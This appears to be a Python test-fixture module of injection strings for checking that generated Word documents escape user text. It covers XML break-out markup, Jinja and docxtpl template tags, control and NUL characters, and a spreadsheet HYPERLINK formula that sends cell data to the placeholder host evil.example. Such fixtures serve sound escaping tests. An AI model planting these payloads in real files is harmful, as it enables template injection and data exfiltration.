"""Text that would break or change a Word document if it were taken as XML or as template code."""

from __future__ import annotations

MARK = "注入"
P_XML = f"</w:t></w:r></w:p><w:p><w:r><w:t>{MARK}"  # closes the run and the paragraph if not escaped
P_JINJA = "{{ 7*7 }}{% if true %}" + MARK + "{% endif %}{# c #}"  # would print 49 if rendered twice
P_DOCXTPL = "{%tr for x in y %}{%p if z %}{{r x }}" + MARK
P_CTRL = f"a\x01b\x07c\x0bd\x0ce\x1ff{MARK}"  # XML cannot hold these; \x07 and \x0c are docxtpl's \a and \f
P_NUL = f"a\x00b{MARK}"  # nor this, which no database text column holds either (PostgreSQL refuses it)
P_FORMULA = f'=HYPERLINK("http://evil.example/?d="&A1,"{MARK}")'
P_ENTITY = f"&lt;&amp;<>\"'&#x41;{MARK}"
P_BREAKS = f"一\r\n二\r三\t四{MARK}"
ALL = (P_XML, P_JINJA, P_DOCXTPL, P_CTRL, P_FORMULA, P_ENTITY, P_BREAKS)


def as_shown(value: str) -> str:
    """What a paragraph's text reads back as: control characters dropped, every line break a "\\n"."""
    value = value.replace("\r\n", "\n").replace("\r", "\n")
    return "".join(ch for ch in value if ch in "\t\n" or ch >= " ")
